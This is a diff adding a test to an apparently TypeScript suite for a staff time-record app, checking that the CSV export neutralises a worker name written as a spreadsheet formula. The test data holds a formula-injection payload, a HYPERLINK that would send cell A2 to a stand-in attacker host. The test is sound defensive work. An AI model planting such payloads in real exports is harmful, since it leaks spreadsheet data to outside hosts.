@@ -101,6 +101,15 @@ describe('who reads and writes the record', () => {
 });
 
 describe('corrections and reports', () => {
+  it('the CSV writes a worker named like a formula as text, never as a live formula', async () => {
+    const attack = '=HYPERLINK("http://evil.example/?x="&A2;"Ver")';
+    const worker = await createUser(t, admin, { roles: 3, first_name: attack, last_name: '-Ruiz' });
+    for (const [kind, time] of [['in', '08:00'], ['out', '16:00']]) expectOk(await correct({ action: 'add', user_id: worker.id, kind, day: '2024-02-12', time, reason: 'Olvidó fichar' }), 20001);
+    const csv = (await t.call('GET', '/api/timeRecords/csv?from=2024-02-12&to=2024-02-12', { token: admin })).response.body as string;
+    const line = csv.split('\r\n').find((l) => l.includes('evil.example'));
+    expect(line).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&A2;""Ver"") -Ruiz";${worker.username};12/02/2024;08:00–16:00;;0:00;8:00;Corregido`);
+  });
+
   it('a correction is a new entry with its reason: the original stays, both show, totals follow, all audited', async () => {
     const worker = await createUser(t, admin, { roles: 3, first_name: 'Marta', last_name: 'Soler Ruiz' });
     const add = (kind: string, time: string, reason = 'Olvidó fichar') => correct({ action: 'add', user_id: worker.id, kind, day: '2025-03-10', time, reason });
